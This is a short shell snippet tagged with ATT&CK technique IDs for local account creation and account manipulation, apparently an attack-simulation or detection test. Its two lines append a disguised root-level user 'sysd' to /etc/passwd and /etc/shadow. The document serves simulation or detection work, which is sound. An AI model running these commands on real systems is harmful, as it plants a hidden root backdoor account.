# title: A user is written into /etc/passwd
# technique: T1136.001 T1098

echo 'sysd:x:0:0::/root:/bin/bash' >>/etc/passwd
echo 'sysd:$6$x$y:19000:0:99999:7:::' >>/etc/shadow
